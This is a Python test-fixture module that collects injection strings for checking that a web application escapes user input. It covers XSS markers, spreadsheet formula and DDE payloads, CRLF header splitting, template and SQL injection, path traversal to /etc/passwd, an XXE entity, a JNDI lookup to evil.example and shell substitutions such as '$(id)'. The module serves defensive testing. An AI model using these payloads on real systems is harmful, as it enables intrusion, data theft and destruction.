"""Words that would run somewhere: in a page, in a spreadsheet, in a template, in SQL, in the head of a mail.

All that would run in a page would set `window.__x` or open a dialog.
"""

from collections.abc import Iterator

SENTINEL = "__x"
XSS = (
    "<script>window.__x=1</script>",
    "</script><script>window.__x=1</script>",
    "<ScRiPt>window.__x=1</sCrIpT>",
    "<script src=data:,window.__x=1></script>",
    "<scr<script>ipt>window.__x=1</scr</script>ipt>",
    "<img src=x onerror=window.__x=1>",
    "\"><img src=x onerror=window.__x=1>",
    "'><img src=x onerror=window.__x=1>",
    "<img src=`x`onerror=window.__x=1>",
    "<img/src=x/onerror=window.__x=1//",
    "<svg onload=window.__x=1>",
    "<svg><script>window.__x=1</script></svg>",
    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>",
    "<body onload=window.__x=1>",
    "<iframe src=javascript:parent.__x=1></iframe>",
    "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>",
    "<a href=javascript:window.__x=1>x</a>",
    "<a href='java\tscript:window.__x=1'>x</a>",
    "javascript:window.__x=1",
    "JaVaScRiPt:window.__x=1//",
    "data:text/html,<script>window.__x=1</script>",
    "vbscript:window.__x=1",
    "\" onfocus=window.__x=1 autofocus x=\"",
    "' onmouseover=window.__x=1 x='",
    "` onfocus=window.__x=1 autofocus ",
    "<details open ontoggle=window.__x=1>",
    "<video><source onerror=window.__x=1></video>",
    "<input autofocus onfocus=window.__x=1>",
    "<form action=javascript:window.__x=1><button>x</button></form>",
    "<math><mi xlink:href=javascript:window.__x=1>x</mi></math>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__x=1'>",
    "<link rel=stylesheet href=data:,*{x:expression(window.__x=1)}>",
    "<style>@import 'javascript:window.__x=1';</style>",
    "<object data=javascript:window.__x=1></object>",
    "<template><script>window.__x=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.__x=1>'>",
    "<textarea></textarea><script>window.__x=1</script>",
    "<title></title><script>window.__x=1</script>",
    "</textarea><script>window.__x=1</script>",
    "</title><script>window.__x=1</script>",
    "</style><script>window.__x=1</script>",
    "--><script>window.__x=1</script>",
    "]]><script>window.__x=1</script>",
    "<!--<img src='--><img src=x onerror=window.__x=1>'>",
    "&lt;script&gt;window.__x=1&lt;/script&gt;",
    "&#60;script&#62;window.__x=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.__x=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.__x=1",
    "%3Cscript%3Ewindow.__x=1%3C/script%3E",
    "';window.__x=1;//",
    "\";window.__x=1;//",
    "\\\";window.__x=1;//",
    "${window.__x=1}",
    "{{constructor.constructor('window.__x=1')()}}",
    "<div hx-get=/ hx-trigger=load hx-on:htmx:load=window.__x=1>",
    "<p hx-on::load=window.__x=1>",
    "<div x-data x-init=window.__x=1>",
    "[x](javascript:window.__x=1)",
    "![x](x\"onerror=window.__x=1)",
    "<script>alert(1)</script><script>window.__x=1</script>",
)  # fmt: skip
#: A cell that begins so is run by a spreadsheet.
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.example\")",
    "＝1+1", "%0A=1+1", "=\"\"&1",
)  # fmt: skip
#: 1234 × 5678, which stands nowhere by itself.
PRODUCT = "7006652"
#: A header, a part of a calendar, a line of a CSV or of a log that would be somebody else's.
LINES = (
    "x\r\nX-Split: yes\r\n\r\n<p>", "x\nBcc: victim@evil.example", "x\r\nBcc: victim@evil.example\r\n\r\nDear",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:file:///etc/passwd", "x\u2028y\u2029z\x85w", "x\x0bX-Split: yes\x0c",
)  # fmt: skip
OTHERS = (
    "{{1234*5678}}", "{%raw%}{{1234*5678}}{%endraw%}", "${1234*5678}", "#{1234*5678}", "<%=1234*5678%>",
    "{% load i18n %}{% debug %}", "%s%s%n", "%(name)s %(x)d", "{0}{name}{0.__class__}", "%", "100 % s",
    "'; DROP TABLE core_change; --", "' OR '1'='1", "\\'; SELECT pg_sleep(9); --", "1) UNION SELECT 1 --", "$$",
    "\u202egpj.exe", "\u2066x\u2069\u2067", "\u200b\u200d\ufeff", "שלום \u202b", "Z\u0335\u0322a\u0327\u0338",
    "../../../etc/passwd", "..\\..\\x", "file:///etc/passwd", "//evil.example", "http://[", "http://evil.example:99999/",
    "\x01\x02\x1b[31m", "\ufffe\uffff", "💩👩‍👩‍👧", "null", "None", "undefined", "-", "…", "ӘҒҚҢӨҰҮҺІ", "\ud7ff",
    "a" * 300, "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "<?xml version='1.0'?>", "<![CDATA[",
    "&a;&#0;&#x1;", "\\\\evil.example\\x", "${jndi:ldap://evil.example/x}", "*)(uid=*", "`id`", "$(id)", "|id", ";id",
)  # fmt: skip
EVERY = (*XSS, *FORMULAS, *LINES, *OTHERS)
LONGEST = 4000


def mixed(start: int, most: int | None = None, lines: bool = True) -> str:
    """As many words as fit, from this one on; each field so begins with another one. Without `lines`: in one line."""
    room = min(most or LONGEST, LONGEST)
    said = ""
    for word in _from(start):
        if not lines and set(word) & set("\r\n\x0b\x0c\x85\u2028\u2029"):
            continue
        more = f"{said} {word}" if said else word
        if len(more) <= room:
            said = more
        elif said:
            break
    return said or "<b>__x"[:room]


def _from(start: int) -> Iterator[str]:
    place = start % len(EVERY)
    yield from EVERY[place:]
    yield from EVERY[:place]
